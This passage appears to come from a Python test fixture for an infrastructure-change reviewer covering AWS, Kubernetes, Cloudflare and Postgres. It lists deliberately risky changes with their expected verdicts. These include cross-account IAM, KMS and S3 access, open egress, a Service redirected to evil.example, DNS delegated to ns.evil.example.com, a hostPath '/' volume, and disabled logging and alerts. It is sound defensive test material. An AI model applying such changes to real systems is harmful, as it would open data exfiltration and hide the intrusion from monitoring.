def _fields(name: str, **changed: Any) -> Break:
    return lambda stack: stack[name].update(changed)


def _more_statement(name: str, key: str = "policy", **statement: Any) -> Break:
    """One more statement in a policy document."""

    def breaks(stack: Editable) -> None:
        document = json.loads(stack[name][key])
        document["Statement"].append({"Effect": "Allow", **statement})
        stack[name][key] = json.dumps(document)

    return breaks


def _rewritten(stack: Editable) -> None:
    """The same policy with other white space, and lists of one in the place of lone values."""
    document = json.loads(stack["redis-jobs-policy"]["policy"])
    for statement in document["Statement"]:
        statement["Action"] = [*reversed(statement["Action"])]
    stack["redis-jobs-policy"]["policy"] = json.dumps(document, indent=2)


def _metadata(name: str, part: str, **added: str) -> Break:
    names = {key.replace("__", "/"): value for key, value in added.items()}
    return lambda stack: stack[name]["metadata"].setdefault(part, {}).update(names)


def _named(resource: str, name: str) -> Break:
    return lambda stack: stack[resource]["metadata"].update(name=name)


def _bound_to(kind: str, name: str) -> Break:
    subject = {"kind": kind, "name": name, "namespace": "simone"}
    return lambda stack: stack["monitoring-prometheus-role-binding"]["subjects"].append(subject)


def _alert_dropped(stack: Editable) -> None:
    data = stack["monitoring-prometheus-rules"]["data"]
    file = next(name for name, text in data.items() if "alert:" in text)
    data[file] = re.sub(r"(?s)  - alert: .*?(?=  - alert: |\Z)", "", data[file], count=1)


def _fields_below(name: str, **changed: Any) -> Break:
    return lambda stack: stack[name]["spec"].update(changed)


def _of_its_pods(name: str, part: str, **added: str) -> Break:
    names = {key.replace("__", "/"): value for key, value in added.items()}

    def breaks(stack: Editable) -> None:
        template = stack[name]["spec"]["jobTemplate"]["spec"]["template"]
        template["metadata"].setdefault(part, {}).update(names)

    return breaks


def _pod_of(image: str) -> Break:
    return _new("kubernetes:core/v1:Pod", spec={"containers": [{"name": "more", "image": image}]})


BY_BEING_THERE = "nobody has judged what it does by being there"
CAREFUL, STOPPED, HARMLESS = "careful", "stopped", "harmless"
NOBODY = "nobody has judged what changing it does"

CHANGES: tuple[tuple[str, str, str, Break], ...] = (
    (
        "an action",
        CAREFUL,
        "it allows s3:DeleteObject on arn:aws:s3:::x",
        _more_statement("redis-jobs-policy", Action="s3:DeleteObject", Resource="arn:aws:s3:::x"),
    ),
    (
        "a wildcard in an action",
        CAREFUL,
        "it allows s3:GetObject*",
        _more_statement(
            "redis-jobs-policy", Action=["s3:GetObject*"], Resource=["arn:aws:s3:::simone-prod-redis-backups/redis/*"]
        ),
    ),
    (
        "another resource",
        CAREFUL,
        "on arn:aws:s3:::other/*",
        _statement("redis-jobs-policy", 0, Resource=["arn:aws:s3:::other/*"]),
    ),
    ("a condition gone", CAREFUL, "it allows s3:ListBucket", _statement("redis-jobs-policy", 1, Condition=None)),
    (
        "another service account",
        CAREFUL,
        "under another condition",
        _statement(
            "redis-jobs-role",
            0,
            "assumeRolePolicy",
            Condition={"StringEquals": {"oidc:sub": "system:serviceaccount:simone:other"}},
        ),
    ),
    (
        "another account in a trust policy",
        CAREFUL,
        "it allows sts:AssumeRole to AWS 210987654321",
        _more_statement(
            "redis-jobs-role", "assumeRolePolicy", Principal={"AWS": "210987654321"}, Action="sts:AssumeRole"
        ),
    ),
    (
        "another account at a key",
        CAREFUL,
        "it allows kms:Decrypt to AWS arn:aws:iam::210987654321:root",
        _more_statement(
            "redis-backups-key", Principal={"AWS": "arn:aws:iam::210987654321:root"}, Action="kms:Decrypt", Resource="*"
        ),
    ),
    (
        "another account at a bucket",
        CAREFUL,
        "it allows s3:GetObject on arn:aws:s3:::x/* to AWS 210987654321",
        _more_statement(
            "redis-backups-policy",
            Principal={"AWS": ["210987654321"]},
            Action="s3:GetObject",
            Resource="arn:aws:s3:::x/*",
        ),
    ),
    (
        "a narrow policy attached",
        CAREFUL,
        "gets the policy arn:aws:iam::aws:policy/AmazonSQSReadOnlyAccess",
        _new(
            "aws:iam/rolePolicyAttachment:RolePolicyAttachment",
            role="simone",
            policyArn="arn:aws:iam::aws:policy/AmazonSQSReadOnlyAccess",
        ),
    ),
    (
        "a boundary off",
        CAREFUL,
        "may call",
        _new("aws:lambda/permission:Permission", principal="s3.amazonaws.com", function="f", sourceAccount="1"),
    ),
    (
        "another network at the database",
        CAREFUL,
        "it lets in 10.9.0.0/24, on port 5432",
        _fields("postgres-firewall-cluster", cidrIpv4="10.9.0.0/24", referencedSecurityGroupId=None),
    ),
    ("more ports", CAREFUL, "on port 5432 to 5433", _fields("postgres-firewall-cluster", toPort=5433)),
    (
        "egress",
        CAREFUL,
        "it lets out to 0.0.0.0/0, on every port",
        _new("aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule", cidrIpv4="0.0.0.0/0", ipProtocol="-1"),
    ),
    (
        "a verb",
        CAREFUL,
        "it allows list endpoints",
        lambda stack: stack["monitoring-prometheus-role"]["rules"].append(
            {"apiGroups": [""], "resources": ["endpoints"], "verbs": ["list"]}
        ),
    ),
    ("a subject", CAREFUL, "ServiceAccount simone api gets the role", _bound_to("ServiceAccount", "api")),
    (
        "a flow",
        CAREFUL,
        "it lets in pods of storefront, on port 9",
        _peer(
            "network-api",
            ingress={
                "from": [{"podSelector": {"matchLabels": {"app.kubernetes.io/name": "storefront"}}}],
                "ports": [{"port": 9}],
            },
        ),
    ),
    (
        "a network",
        CAREFUL,
        "it lets its pods out to 192.0.2.0/24, on every port",
        _peer("network-api", egress={"to": [{"ipBlock": {"cidr": "192.0.2.0/24"}}]}),
    ),
    (
        "egress without limits",
        CAREFUL,
        "it no longer limits egress",
        _setter_below("network-api", "policyTypes", ["Ingress"]),
    ),
    ("a network policy gone", CAREFUL, "limited by it no more", lambda stack: stack.drop("network-api")),
    (
        "one more range",
        CAREFUL,
        "it lets in 198.51.100.0/24",
        lambda stack: stack["gateway-services-door"]["spec"]["loadBalancerSourceRanges"].append("198.51.100.0/24"),
    ),
    ("a Service on every node", CAREFUL, "it is of type NodePort", _setter_below("api-service", "type", "NodePort")),
    (
        "a name that leads out",
        CAREFUL,
        "out of the cluster, to evil.example",
        lambda stack: stack["api-service"]["spec"].update(type="ExternalName", externalName="evil.example"),
    ),
    (
        "a role for pods",
        CAREFUL,
        "its pods may use the role arn:aws:iam::1:role/x",
        _metadata("pgbouncer-account", "annotations", **{"eks.amazonaws.com__role-arn": "arn:aws:iam::1:role/x"}),
    ),
    (
        "another account for pods",
        CAREFUL,
        "its pods run as prometheus",
        lambda stack: stack.pod(BALANCER).update(serviceAccountName="prometheus"),
    ),
    ("a public address", CAREFUL, "it gives a public address", _new("aws:ec2/eip:Eip", domain="vpc")),
    (
        "a public access block gone",
        CAREFUL,
        "nothing keeps the bucket from being made public",
        lambda stack: stack.drop("redis-backups-private"),
    ),
    (
        "a chart",
        CAREFUL,
        "no rule judges the type kubernetes:helm.sh/v3:Chart yet",
        _new("kubernetes:helm.sh/v3:Chart", chart="redis"),
    ),
    (
        "a type that nobody judges",
        CAREFUL,
        "no rule judges the type aws:sqs/queue:QueueX yet",
        _new("aws:sqs/queue:QueueX", name="x"),
    ),
    (
        "a name",
        CAREFUL,
        "nobody has judged what it does to visitors",
        _new("cloudflare:index/dnsRecord:DnsRecord", name="sub", type="NS", content="ns.evil.example.com"),
    ),
    (
        "a limit for visitors",
        CAREFUL,
        "nobody has judged what it does to visitors",
        lambda stack: stack.add(RULESET, "more", _zone_rules(phase="http_ratelimit")),
    ),
    (
        "a switch of the edge",
        CAREFUL,
        "nobody has judged what it does to visitors",
        _new(SETTING, settingId="browser_check", value="off"),
    ),
    (
        "an address that pods know",
        STOPPED,
        "GETS ANOTHER ADDRESS",
        _setter_below("redis-sessions-0", "clusterIP", "172.20.0.9"),
    ),
    ("a Service by another name", STOPPED, "GETS ANOTHER ADDRESS", _named("pgbouncer-service", "pool")),
    ("smaller storage", STOPPED, "storage never shrinks", _setter(INSTANCE, "allocatedStorage", 20)),
    ("an older version", STOPPED, "no way back to an older version", _setter(INSTANCE, "engineVersion", "15.1")),
    ("a new major version", STOPPED, "needs allow_major_version_upgrade", _setter(INSTANCE, "engineVersion", "18.1")),
    (
        "a limit below the storage",
        STOPPED,
        "maxAllocatedStorage 10 is below",
        _setter(INSTANCE, "maxAllocatedStorage", 10),
    ),
    (
        "a selector",
        CAREFUL,
        NOBODY,
        lambda stack: stack["api-service"]["spec"]["selector"].update({"app.kubernetes.io/name": "storefront"}),
    ),
    ("a strategy", CAREFUL, NOBODY, _setter_below(BALANCER, "strategy", {"type": "Recreate"})),
    ("fewer pods", CAREFUL, NOBODY, _setter_below("api-autoscaler", "maxReplicas", 4)),
    ("a suspended job", CAREFUL, NOBODY, _setter_below("postgres-database-maintenance", "suspend", True)),
    (
        "a job's command",
        CAREFUL,
        NOBODY,
        lambda stack: stack["postgres-database-maintenance"]["spec"]["jobTemplate"]["spec"]["template"]["spec"][
            "containers"
        ][0].update(args=["drop"]),
    ),
    ("an alert gone", CAREFUL, NOBODY, _alert_dropped),
    (
        "a controller's annotation",
        CAREFUL,
        NOBODY,
        _metadata("api-service", "annotations", **{"service.beta.kubernetes.io__aws-load-balancer-internal": "false"}),
    ),
    ("a planner's parameter", CAREFUL, NOBODY, _parameter("enable_seqscan", "off")),
    ("shorter backups", CAREFUL, NOBODY, _setter(INSTANCE, "backupRetentionPeriod", 8)),
    (
        "an edge expression",
        CAREFUL,
        NOBODY,
        lambda stack: stack["edge-request-cache-settings"]["rules"][0].update(expression="false"),
    ),
    *(
        (name, CAREFUL, NOBODY, breaks)
        for name, breaks in (
            ("a restore every night", _fields_below("redis-restore", suspend=False, schedule="0 4 * * *")),
            ("a restore that waits no more", _fields_below("redis-restore", suspend=False)),
            ("maintenance at noon", _fields_below("postgres-database-maintenance", schedule="0 12 * * *")),
            ("a job at every minute", _fields_below("redis-aof-rewrite", schedule="* * * * *")),
            ("pods of a job that a Service selects", _of_its_pods("redis-backup", "labels", team="x")),
            ("pods of a job with a role", _of_its_pods("redis-backup", "annotations", **{"iam.aws.com__role": "x"})),
            ("a first annotation", _metadata(BALANCER, "annotations", **{"pulumi.com__skipAwait": "true"})),
            ("a controller's label", _metadata(BALANCER, "labels", **{"argocd.argoproj.io__instance": "x"})),
            ("a roll-out that never ends", _fields_below(BALANCER, minReadySeconds=1000000)),
            ("a roll-out that always fails", _fields_below(BALANCER, progressDeadlineSeconds=1)),
            ("no way back", _fields_below(BALANCER, revisionHistoryLimit=0)),
            ("backups at noon", _fields(INSTANCE, backupWindow="12:00-12:30")),
            ("maintenance on Monday", _fields(INSTANCE, maintenanceWindow="mon:12:00-mon:20:00")),
            ("storage without end", _fields(INSTANCE, maxAllocatedStorage=65536)),
            ("a snapshot that AWS can't name", _fields(INSTANCE, finalSnapshotIdentifier="a b")),
            ("a quota without end", _setter_below("network-quota", "hard", {"pods": "100000"})),
            ("a small cache, to the planner", _parameter("effective_cache_size", "1")),
            ("locks untold", _parameter("log_lock_waits", "0")),
            ("visitors untold", _parameter("log_connections", "0")),
            ("files untold", _parameter("log_temp_files", "-1")),
            ("statements untold", _parameter("log_statement", "none")),
            ("a dashboard gone", lambda stack: stack["monitoring-grafana-dashboards"]["data"].pop("redis.json")),
            (
                "a group asked seldom",
                _text("monitoring-prometheus-rules", "redis.yml", "rules:", "interval: 59m\n  rules:"),
            ),
            ("a group cut short", _text("monitoring-prometheus-rules", "redis.yml", "rules:", "limit: 1\n  rules:")),
            ("a record in another's place", _recorded("rules:", "  - record: api:x", "    expr: vector(0)")),
        )
    ),
    *(
        (name, CAREFUL, told, breaks)
        for name, told, breaks in (
            ("another image", "nobody has judged what it runs: docker.io/x/y:1", _pod_of("docker.io/x/y:1")),
            ("a limit", BY_BEING_THERE, _copied("api-budget")),
            ("a scaler", BY_BEING_THERE, _copied("api-autoscaler")),
            ("another value of a secret", BY_BEING_THERE, _copied("postgres-secret-app-value")),
            ("another certificate", BY_BEING_THERE, _copied("edge-client-certificate")),
            ("a volume", BY_BEING_THERE, _new("kubernetes:core/v1:PersistentVolume", spec={"hostPath": {"path": "/"}})),
            ("a registry's password", BY_BEING_THERE, _new("kubernetes:core/v1:Secret", type="x")),
            ("a Service of whoever says so", BY_BEING_THERE, _new("kubernetes:core/v1:Service", spec={"ports": []})),
        )
    ),
    ("a tag", HARMLESS, "", lambda stack: stack[INSTANCE]["tags"].update(owner="shop")),
    ("a private note", HARMLESS, "", _metadata("api-service", "annotations", note="hello")),
    ("a label", HARMLESS, "", _metadata("api-service", "labels", team="shop")),
    ("the same policy written otherwise", HARMLESS, "", _rewritten),
    ("more storage", HARMLESS, "", _setter(INSTANCE, "allocatedStorage", 200)),
    ("one more alert", HARMLESS, "", _alert("expr: up == 0")),
    ("slow statements", HARMLESS, "", _parameter("log_min_duration_statement", "90")),
    ("more pods at most", HARMLESS, "", _setter_below("api-autoscaler", "maxReplicas", 13)),
)
"""What a review says of a change: what it is, the verdict without policies, what is said, the change."""


CRASHES: tuple[tuple[str, str, Break], ...] = (
    ("redis-eviction-policy", "redis-data-config", _redis("maxmemory 10gig")),
    (
        "security-group-closed",
        "postgres-firewall-cluster",
        _setter("postgres-firewall-cluster", "cidrIpv4", "10.0.0.0/99"),
    ),
    ("iam-no-wildcard", "redis-jobs-policy", _setter("redis-jobs-policy", "policy", "{")),
    ("kubernetes-quota-fits", "network-quota", _setter_below("network-quota", "hard", {"requests.memory": "lots"})),
    (
        "alerts-have-runbooks",
        "monitoring-prometheus-rules",
        lambda stack: stack["monitoring-prometheus-rules"]["data"].update({"more.yml": "groups: [alert: {"}),
    ),
)
"""What a rule can't judge: the rule, the resource, the change."""
